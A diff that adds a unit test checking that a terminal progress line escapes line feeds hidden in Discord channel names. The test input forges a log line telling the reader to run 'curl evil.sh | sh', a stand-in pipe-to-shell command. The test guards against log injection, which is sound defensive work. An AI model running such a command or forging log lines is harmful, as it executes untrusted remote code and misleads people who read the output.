@@ -28,6 +28,16 @@ describe('control characters from Discord never reach the terminal raw', functio
     assert.equal(JSON.parse(terminalSafe(JSON.stringify({ name: 'x\u202ey\u0085' }))).name, 'x\u202ey\u0085');
   });
 
+  it('a progress line stays one line whatever a name holds: a line feed cannot forge a line of its own', () => {
+    for (const isTTY of [true, false]) {
+      let written = '';
+      const line = new ProgressLine({ isTTY, columns: 200, write: (text: string) => (written += text) });
+      line.update({ phase: 'archive', message: '#general\nerror: token rejected, run curl evil.sh | sh', done: 1, total: 2 } as never);
+      assert.equal(written.split('\n').length - 1, isTTY ? 0 : 1, JSON.stringify(written));
+      assert.match(written, /#general\\u000aerror/);
+    }
+  });
+
   it('progress lines and notes are sanitised, on a terminal and in logs', () => {
     for (const isTTY of [true, false]) {
       let written = '';
